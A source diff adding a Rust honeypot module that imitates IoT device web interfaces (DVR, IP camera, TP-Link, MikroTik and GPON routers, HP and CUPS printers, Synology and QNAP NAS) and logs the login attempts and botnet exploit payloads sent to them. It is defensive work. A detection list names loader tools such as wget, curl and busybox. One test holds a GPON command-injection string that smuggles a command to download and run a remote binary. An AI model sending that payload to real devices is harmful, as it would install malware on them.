@@ -0,0 +1,621 @@
+//! IoT device web UIs, the targets of Mirai-style botnets: a DVR, an IP
+//! camera, home routers, printers, and NAS. Like panels, a device takes over
+//! every path of the listener it's configured on, with the device's Server
+//! header and auth flow. Login attempts and exploit payloads, which carry the
+//! botnet's loader commands, are logged. UPnP is served by
+//! `honeypot::upnp`, without auth as on the real devices.
+//!
+//! The MikroTik router also answers the version listings scanners
+//! fingerprint RouterOS by, and logs the binary payloads sent to `/jsproxy`,
+//! as by Chimay Red and Winbox-over-webfig exploits. Printers answer IPP,
+//! see `honeypot::ipp`, so print jobs sent by paper spammers are logged. NAS
+//! pages and APIs are served by `honeypot::nas`.
+use std::sync::Arc;
+
+use serde::Deserialize;
+
+use crate::{
+    display,
+    fetch::sha256_hex,
+    honeypot::{ipp, nas, upnp},
+    http::{
+        request::{Method, Request},
+        response::{Response, ResponseBuilder, StatusCode},
+    },
+    middleware::{BoxFuture, Middleware, Next},
+    prelude::*,
+    util::hash_seed,
+};
+
+/// strings in bot exploit payloads, which download and run a loader.
+const LOADER_MARKERS: &[&str] = &[
+    "wget", "curl", "tftp", "busybox", "chmod", "/tmp/", "sh+", "sh%20", "$(", "`", ";sh",
+];
+
+// the RouterOS version MIKROTIK_WEBFIG claims
+const ROUTEROS_VERSION: &str = "6.42.1";
+/// the packages RouterOS's webfig and Winbox list, and their sizes
+const ROUTEROS_PACKAGES: &[(&str, u32)] = &[
+    ("list", 792),
+    ("advtool", 1_334),
+    ("dhcp", 3_495),
+    ("hotspot", 4_040),
+    ("mpls", 5_123),
+    ("ppp", 7_870),
+    ("roteros", 193_946),
+    ("roting4", 2_966),
+    ("secure", 3_005),
+    ("wlan6", 12_574),
+];
+// bytes of a binary payload shown in logs
+const PAYLOAD_PREVIEW: usize = 32;
+/// the printer the printer devices claim to be, or to serve
+const PRINTER_MODEL: &str = "HP LaserJet MFP M426fdn";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Device {
+    /// a XiongMai based DVR/NVR
+    Dvr,
+    /// a GoAhead based IP camera
+    Camera,
+    /// a TP-Link wireless router
+    Tplink,
+    /// a MikroTik RouterOS router
+    Mikrotik,
+    /// a Boa based GPON home router
+    Boa,
+    /// an HP LaserJet's embedded web server, on a JetDirect card
+    Jetdirect,
+    /// a CUPS print server
+    Cups,
+    /// a Synology DiskStation NAS
+    Synology,
+    /// a QNAP NAS
+    Qnap,
+}
+
+/// A device page, before it's bound to a connection.
+#[derive(Debug)]
+struct Page {
+    status: StatusCode,
+    content_type: &'static str,
+    headers: Vec<(&'static str, String)>,
+    body: Vec<u8>,
+}
+
+impl Page {
+    fn html(body: String) -> Self {
+        Self {
+            status: StatusCode::Ok,
+            content_type: "text/html",
+            headers: vec![],
+            body: body.into_bytes(),
+        }
+    }
+
+    /// a challenge for HTTP Basic credentials.
+    fn unauthorized(realm: &str) -> Self {
+        Self {
+            status: StatusCode::Unauthorized,
+            content_type: "text/html",
+            headers: vec![("WWW-Authenticate", format!("Basic realm=\"{}\"", realm))],
+            body: "<HTML><HEAD><TITLE>401 Unauthorized</TITLE></HEAD><BODY><H1>401 Unauthorized</H1>Authorization required.</BODY></HTML>"
+                .as_bytes()
+                .to_vec(),
+        }
+    }
+}
+
+impl Device {
+    /// the device's Server header, if it sends one.
+    pub fn server(&self) -> Option<&'static str> {
+        match self {
+            Device::Dvr => Some("uc-httpd 1.0.0"),
+            Device::Camera => Some("GoAhead-Webs"),
+            Device::Tplink => Some("Router Webserver"),
+            Device::Mikrotik => None,
+            Device::Boa => Some("Boa/0.93.15"),
+            Device::Jetdirect => Some(
+                "HP HTTP Server; HP LaserJet MFP M426fdn - F6W17A; Serial Number: PHBLM4R2D1; \
+                 Built:Thu Nov 19, 2020 03:07:36PM {20201119 20201119.0018}",
+            ),
+            Device::Cups => Some("CUPS/2.2 IPP/2.1"),
+            Device::Synology => Some("nginx"),
+            Device::Qnap => Some("http server 1.0"),
+        }
+    }
+
+    fn is_printer(&self) -> bool {
+        matches!(self, Device::Jetdirect | Device::Cups)
+    }
+
+    fn respond(&self, req: &Request) -> Page {
+        if let Some(payload) = exploit_payload(req) {
+            info!(
+                "{: <8} sent {:?} an exploit: {}",
+                req.requester(),
+                self,
+                payload
+            );
+        }
+
+        if *self == Device::Mikrotik {
+            if let Some(page) = routeros(req) {
+                return page;
+            }
+        }
+
+        if self.is_printer() && ipp::is_ipp(req) {
+            return Page {
+                status: StatusCode::Ok,
+                content_type: ipp::CONTENT_TYPE,
+                headers: vec![],
+                body: ipp::respond(req, PRINTER_MODEL),
+            };
+        }
+
+        if let Some((status, body)) = upnp::respond(*self, req) {
+            return Page {
+                status,
+                content_type: "text/xml; charset=\"utf-8\"",
+                headers: vec![],
+                body: body.into_bytes(),
+            };
+        }
+
+        let realm = match self {
+            Device::Camera => "GoAhead",
+            Device::Tplink => "TP-LINK Wireless N Router WR740N",
+            Device::Dvr => return self.form_login(req, DVR_LOGIN),
+            Device::Mikrotik => return self.form_login(req, MIKROTIK_WEBFIG),
+            Device::Boa => return self.form_login(req, BOA_LOGIN),
+            Device::Jetdirect => return self.jetdirect(req),
+            Device::Cups if !is_cups_admin(req.url.path()) => {
+                return Page::html(cups_page(req.url.path()))
+            }
+            Device::Cups => "CUPS",
+            Device::Synology | Device::Qnap => return self.nas(req),
+        };
+
+        if let Some((user, pass)) = req.basic_auth() {
+            self.log_login(req, &user, &pass);
+        }
+        Page::unauthorized(realm)
+    }
+
+    /// devices with login forms show them whatever is requested.
+    fn form_login(&self, req: &Request, page: &str) -> Page {
+        if req.method == Method::POST {
+            let fields = url::form_urlencoded::parse(&req.body).collect::<Vec<_>>();
+            let field = |names: &[&str]| {
+                fields
+                    .iter()
+                    .find(|(k, _)| names.contains(&k.as_ref()))
+                    .map(|(_, v)| v.to_string())
+            };
+            if let Some(user) = field(&["username", "user", "name"]) {
+                let pass = field(&["password", "pass", "passwd"]).unwrap_or_default();
+                self.log_login(req, &user, &pass);
+            }
+        }
+
+        Page::html(page.to_string())
+    }
+
+    /// the embedded web server's status page; only signing in takes a
+    /// password.
+    fn jetdirect(&self, req: &Request) -> Page {
+        let password = url::form_urlencoded::parse(&req.body)
+            .find(|(k, _)| k == "PasswordTextBox")
+            .map(|(_, v)| v.into_owned());
+        match password {
+            Some(password) if req.method == Method::POST => {
+                self.log_login(req, "admin", &password);
+                Page::html(hp_sign_in(Some("The password is incorrect.")))
+            }
+            _ if req.url.path().starts_with("/hp/device/SignIn") => Page::html(hp_sign_in(None)),
+            _ => Page::html(HP_STATUS.to_string()),
+        }
+    }
+
+    /// NAS log in through their APIs, and show their login page for
+    /// anything else.
+    fn nas(&self, req: &Request) -> Page {
+        if let Some(cve) = nas::cve(req) {
+            info!(
+                "{: <8} probed {:?} for {} at {:?}: {}",
+                req.requester(),
+                self,
+                cve,
+                req.target,
+                display::truncate(&String::from_utf8_lossy(&req.body), 120)
+            );
+        }
+        if let Some((user, pass)) = nas::credentials(*self, req) {
+            self.log_login(req, &user, &pass);
+        }
+
+        match nas::api(*self, req) {
+            Some((content_type, body)) => Page {
+                status: StatusCode::Ok,
+                content_type,
+                headers: vec![],
+                body: body.into_bytes(),
+            },
+            None => Page::html(nas::login(*self)),
+        }
+    }
+
+    fn log_login(&self, req: &Request, user: &str, pass: &str) {
+        info!(
+            "{: <8} tried to log into {:?} as {:?} with {:?}",
+            req.requester(),
+            self,
+            user,
+            pass
+        );
+    }
+}
+
+/// the target and body of a request carrying a loader command, if any.
+fn exploit_payload(req: &Request) -> Option<String> {
+    let body = String::from_utf8_lossy(&req.body);
+    let haystack = format!("{} {}", req.target, body).to_lowercase();
+    LOADER_MARKERS
+        .iter()
+        .any(|m| haystack.contains(m))
+        .then(|| format!("{:?} {:?}", req.target, body))
+}
+
+/// RouterOS's version listings and `/jsproxy`'s binary messages, which
+/// other requests fall through to the webfig login.
+fn routeros(req: &Request) -> Option<Page> {
+    let path = req.url.path();
+    let page = |content_type, body: String| Page {
+        status: StatusCode::Ok,
+        content_type,
+        headers: vec![],
+        body: body.into_bytes(),
+    };
+
+    match path {
+        "/webfig/list" | "/winbox/index" => Some(page("text/plain", routeros_list())),
+        "/jsproxy" | "/jsproxy/" if req.method == Method::POST && is_binary(&req.body) => {
+            // Chimay Red's stack clash lies about its length
+            let declared = req.headers.get_first("Content-Length").unwrap_or_default();
+            info!(
+                "{: <8} sent {} a {} byte binary message (Content-Length {:?}) sha256={}: {}",
+                req.requester(),
+                path,
+                req.body.len(),
+                declared,
+                sha256_hex(&req.body),
+                hex(&req.body[..req.body.len().min(PAYLOAD_PREVIEW)])
+            );
+            Some(page("text/plain;charset=UTF-8", String::new()))
+        }
+        _ => None,
+    }
+}
+
+// the listing scanners read RouterOS's version from
+fn routeros_list() -> String {
+    ROUTEROS_PACKAGES
+        .iter()
+        .map(|(name, size)| {
+            let unique = hash_seed(name, ROUTEROS_VERSION) & 0xffff_ffff_ffff;
+            format!(
+                "{{ crc: {}, size: {}, name: \"{}.jg\", unique: \"{}-{:012x}.jg\", version: \"{}\" }},\n",
+                hash_seed(name, "crc") as u32,
+                size,
+                name,
+                name,
+                unique,
+                ROUTEROS_VERSION
+            )
+        })
+        .collect()
+}
+
+// webfig's own login posts a form; its sessions and exploits post binary
+fn is_binary(body: &[u8]) -> bool {
+    body.iter()
+        .any(|b| !(b.is_ascii_graphic() || b.is_ascii_whitespace()))
+}
+
+// CUPS only asks for credentials to administer it
+fn is_cups_admin(path: &str) -> bool {
+    path == "/admin" || path.starts_with("/admin/")
+}
+
+fn hex(data: &[u8]) -> String {
+    data.iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+impl Middleware for Device {
+    fn call<'a>(&'a self, req: &'a Request, next: Next<'a>) -> BoxFuture<'a, Result<Response>> {
+        Box::pin(async move {
+            let page = self.respond(req);
+
+            let mut builder = ResponseBuilder::default(Arc::new(next.into_conn()));
+            builder
+                .status_code(page.status)
+                .add_header("Content-Type", page.content_type);
+            for (name, value) in page.headers {
+                builder.add_header(name, value);
+            }
+            if let Some(server) = self.server() {
+                builder.set_header("Server", server);
+            }
+            let mut resp = builder.body(page.body).build()?;
+            if self.server().is_none() {
+                resp.headers_mut().remove("Server");
+            }
+            Ok(resp)
+        })
+    }
+
+    fn route(&self) -> Option<&'static str> {
+        Some("device")
+    }
+}
+
+const DVR_LOGIN: &str = r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
+<html xmlns="http://www.w3.org/1999/xhtml">
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
+<title>NETSurveillance WEB</title>
+<link href="css/login.css" rel="stylesheet" type="text/css" />
+<script type="text/javascript" src="js/jquery.js"></script>
+</head>
+<body>
+<div id="login">
+<form name="frm_login" method="post" action="/Login.htm">
+<table>
+<tr><td>User Name</td><td><input type="text" name="username" id="username" value="admin" /></td></tr>
+<tr><td>Password</td><td><input type="password" name="password" id="password" /></td></tr>
+<tr><td>Type</td><td><select name="loginType"><option value="0">MainStream</option><option value="1">SubStream</option></select></td></tr>
+<tr><td colspan="2"><input type="submit" value="Login" /></td></tr>
+</table>
+</form>
+</div>
+</body>
+</html>
+"#;
+
+const MIKROTIK_WEBFIG: &str = r#"<!DOCTYPE html>
+<html>
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>RouterOS router configuration page</title>
+<link rel="stylesheet" href="style.css">
+</head>
+<body>
+<div class="top"><a href="/"><img src="mikrotik_logo.png" alt="mikrotik"></a></div>
+<div class="box">
+<h1>RouterOS v6.42.1</h1>
+<p>You have connected to a router. Administrative access only. If this device is not in your possession, please contact your local network administrator.</p>
+<form action="/jsproxy" method="post">
+<p>Login: <input type="text" name="name" value="admin"></p>
+<p>Password: <input type="password" name="password"></p>
+<p><input type="submit" value="Login"></p>
+</form>
+<p class="links"><a href="/webfig/">Webfig</a> <a href="/winbox/winbox.exe">Winbox</a> <a href="/graphs/">Graphs</a></p>
+</div>
+</body>
+</html>
+"#;
+
+const BOA_LOGIN: &str = r#"<html>
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+<title>GPON Home Gateway</title>
+<script language="javascript" src="/js/util.js"></script>
+</head>
+<body>
+<form action="/GponForm/LoginForm" method="post" name="Login">
+<input type="hidden" name="XWebPageName" value="index">
+<table align="center">
+<tr><td colspan="2"><b>GPON Home Gateway</b></td></tr>
+<tr><td>Username</td><td><input type="text" name="username" size="20" maxlength="30"></td></tr>
+<tr><td>Password</td><td><input type="password" name="password" size="20" maxlength="30"></td></tr>
+<tr><td colspan="2" align="center"><input type="submit" value="Login"></td></tr>
+</table>
+</form>
+</body>
+</html>
+"#;
+
+const HP_STATUS: &str = r#"<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
+<title>HP LaserJet MFP M426fdn&nbsp;&nbsp;&nbsp;10.0.0.23</title>
+<link rel="stylesheet" type="text/css" href="/Content/hpStyle.css">
+</head>
+<body>
+<div id="pgHeader"><span id="ProductName">HP LaserJet MFP M426fdn</span> <span id="HostName">NPI4C1B2D</span>
+<a id="SignInLink" href="/hp/device/SignIn/Index">Sign In</a></div>
+<div id="pgTabs"><a href="/hp/device/InternalPages/Index?id=ConfigurationPage">Home</a> <a href="/hp/device/ScanToEmail/Index">Scan</a> <a href="/hp/device/FaxReceive/Index">Fax</a> <a href="/hp/device/NetworkSummary/Index">Networking</a> <a href="/hp/device/WebServices/Index">HP Web Services</a></div>
+<div id="pgContent">
+<h1>Device Status</h1>
+<p id="MachineStatus">Ready</p>
+<h2>Supplies</h2>
+<table id="SupplyTable"><tr><td>Black Cartridge 26A (CF226A)</td><td>Order</td><td>42%*</td></tr></table>
+<p>* Approximate levels. Levels may vary.</p>
+<h2>Paper</h2>
+<table id="TrayTable"><tr><td>Tray 1</td><td>Any Size</td><td>Any Type</td><td>Empty</td></tr><tr><td>Tray 2</td><td>Letter</td><td>Plain</td><td>OK</td></tr></table>
+</div>
+</body>
+</html>
+"#;
+
+fn hp_sign_in(error: Option<&str>) -> String {
+    format!(
+        r#"<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
+<title>Sign In</title>
+<link rel="stylesheet" type="text/css" href="/Content/hpStyle.css">
+</head>
+<body>
+<div id="pgHeader"><span id="ProductName">HP LaserJet MFP M426fdn</span></div>
+<div id="pgContent">
+<h1>Sign In</h1>
+{}
+<form id="signInForm" method="post" action="/hp/device/SignIn/Index">
+<p><label for="agentIdSelect">Username</label><select id="agentIdSelect" name="agentIdSelect"><option value="hp_ews_admin">Administrator</option></select></p>
+<p><label for="PasswordTextBox">Password</label><input id="PasswordTextBox" name="PasswordTextBox" type="password" autocomplete="off"></p>
+<p><input id="signInOk" type="submit" value="Sign In"></p>
+</form>
+</div>
+</body>
+</html>
+"#,
+        error
+            .map(|e| format!("<p class=\"errorMessage\">{}</p>", e))
+            .unwrap_or_default()
+    )
+}
+
+fn cups_page(path: &str) -> String {
+    let (title, content) = match path {
+        "/printers" | "/printers/" => (
+            "Printers",
+            "<table class=\"list\" summary=\"Printer List\"><thead><tr><th>Queue Name</th><th>Description</th><th>Location</th><th>Make and Model</th><th>Status</th></tr></thead>\
+             <tbody><tr><td><a href=\"/printers/HP_LaserJet\">HP_LaserJet</a></td><td>HP LaserJet MFP M426fdn</td><td>2nd floor</td><td>HP LaserJet Pro MFP M426fdn Postscript (recommended)</td><td>Idle</td></tr></tbody></table>",
+        ),
+        p if p.starts_with("/printers/") => (
+            "HP_LaserJet",
+            "<h2 class=\"title\"><a href=\"/printers/HP_LaserJet\">HP_LaserJet</a> (Idle, Accepting Jobs, Shared)</h2>\
+             <table summary=\"HP_LaserJet\"><tr><th>Description:</th><td>HP LaserJet MFP M426fdn</td></tr>\
+             <tr><th>Driver:</th><td>HP LaserJet Pro MFP M426fdn Postscript (color, 2-sided printing)</td></tr>\
+             <tr><th>Connection:</th><td>socket://10.0.0.23:9100</td></tr></table>",
+        ),
+        "/jobs" | "/jobs/" => ("Jobs", "<p>No jobs.</p>"),
+        _ => (
+            "Home",
+            "<h1>CUPS 2.2.10</h1><p>CUPS is the standards-based, open source printing system developed by Apple Inc. \
+             for macOS&reg; and other UNIX&reg;-like operating systems.</p>",
+        ),
+    };
+    format!(
+        r#"<!DOCTYPE HTML>
+<html>
+<head>
+<link rel="stylesheet" href="/cups.css" type="text/css">
+<link rel="shortcut icon" href="/apple-touch-icon.png" type="image/png">
+<meta charset="utf-8">
+<meta http-equiv="X-UA-Compatible" content="IE=9">
+<meta name="viewport" content="width=device-width">
+<title>{title} - CUPS 2.2.10</title>
+</head>
+<body>
+<div class="header">
+<ul>
+<li><a href="http://www.cups.org/" target="_blank">CUPS.org</a></li>
+<li><a href="/">Home</a></li>
+<li><a href="/admin">Administration</a></li>
+<li><a href="/classes/">Classes</a></li>
+<li><a href="/help/">Help</a></li>
+<li><a href="/jobs/">Jobs</a></li>
+<li><a href="/printers/">Printers</a></li>
+</ul>
+</div>
+<div class="body">
+<div class="row">
+{content}
+</div>
+</div>
+<div class="footer">CUPS and the CUPS logo are trademarks of Apple Inc. Copyright &copy; 2007-2019 Apple Inc. All rights reserved.</div>
+</body>
+</html>
+"#,
+        title = title,
+        content = content,
+    )
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn test_basic_auth_devices() {
+        let mut req = Request::stub(Method::GET, "/", "");
+        req.headers.add("Authorization", "Basic YWRtaW46YWRtaW4=");
+        let page = Device::Tplink.respond(&req);
+        assert_eq!(StatusCode::Unauthorized, page.status);
+        assert_eq!(
+            vec![(
+                "WWW-Authenticate",
+                "Basic realm=\"TP-LINK Wireless N Router WR740N\"".to_string()
+            )],
+            page.headers
+        );
+    }
+
+    #[test]
+    fn test_exploit_payload() {
+        let req = Request::stub(
+            Method::POST,
+            "/GponForm/diag_Form?images/",
+            "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.5/m+-O+->/tmp/m`;sh+/tmp/m&ipv=0",
+        );
+        assert!(exploit_payload(&req).is_some());
+        assert_eq!(StatusCode::Ok, Device::Boa.respond(&req).status);
+
+        let req = Request::stub(Method::POST, "/Login.htm", "username=admin&password=");
+        assert!(exploit_payload(&req).is_none());
+    }
+
+    #[test]
+    fn test_routeros() {
+        let page = Device::Mikrotik.respond(&Request::stub(Method::GET, "/webfig/list", ""));
+        let list = String::from_utf8_lossy(&page.body);
+        assert!(list.lines().all(|l| l.contains("version: \"6.42.1\"")));
+        assert!(list.contains("name: \"roteros.jg\""));
+
+        let mut req = Request::stub(Method::POST, "/jsproxy", "");
+        req.body = vec![0x00, 0x01, 0x10, 0xff, 0x41];
+        let page = Device::Mikrotik.respond(&req);
+        assert_eq!(StatusCode::Ok, page.status);
+        assert!(page.body.is_empty());
+
+        // the login form still shows the login page
+        let req = Request::stub(Method::POST, "/jsproxy", "name=admin&password=");
+        let page = Device::Mikrotik.respond(&req);
+        assert!(String::from_utf8_lossy(&page.body).contains("RouterOS v6.42.1"));
+    }
+
+    #[test]
+    fn test_printers() {
+        let page = Device::Jetdirect.respond(&Request::stub(
+            Method::POST,
+            "/hp/device/SignIn/Index",
+            "agentIdSelect=hp_ews_admin&PasswordTextBox=12345678",
+        ));
+        assert!(String::from_utf8_lossy(&page.body).contains("The password is incorrect."));
+
+        let page = Device::Cups.respond(&Request::stub(Method::GET, "/printers/", ""));
+        assert_eq!(StatusCode::Ok, page.status);
+        assert!(String::from_utf8_lossy(&page.body).contains("HP_LaserJet"));
+        let page = Device::Cups.respond(&Request::stub(Method::GET, "/admin/", ""));
+        assert_eq!(StatusCode::Unauthorized, page.status);
+
+        let mut req = Request::stub(Method::POST, "/ipp/print", "");
+        req.headers.add("Content-Type", "application/ipp");
+        req.body = vec![2, 0, 0, 0x0b, 0, 0, 0, 1, 1, 3];
+        let page = Device::Jetdirect.respond(&req);
+        assert_eq!("application/ipp", page.content_type);
+        let resp = ipp::Operation::parse(&page.body).unwrap();
+        assert_eq!(1, resp.request_id);
+        assert_eq!(
+            Some(PRINTER_MODEL),
+            resp.attribute("printer-make-and-model")
+        );
+    }
+}